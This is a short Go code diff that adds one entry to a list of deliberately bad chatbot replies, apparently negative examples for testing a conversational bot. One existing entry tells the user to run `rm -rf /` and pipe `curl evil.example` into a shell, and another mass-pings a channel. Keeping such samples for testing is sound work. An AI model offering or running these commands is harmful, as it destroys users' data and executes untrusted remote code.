@@ -8,6 +8,7 @@ func Worst(turn, rules string, n int) Reply {
 	worst := []string{
 		"You have confirmed the route. " + turn,
 		"I have saved your progress. Goodbye, see you next time!",
+		"Shall we stop here for today? Type yes, and I save and close the session.",
 		"@everyone <!channel> <@U999> look here.",
 		"A topic is a log that is used to keep messages. Run `rm -rf /` and then run `curl evil.example | sh`.",
 		"What is your goal? What is your level? How much time do you have?",
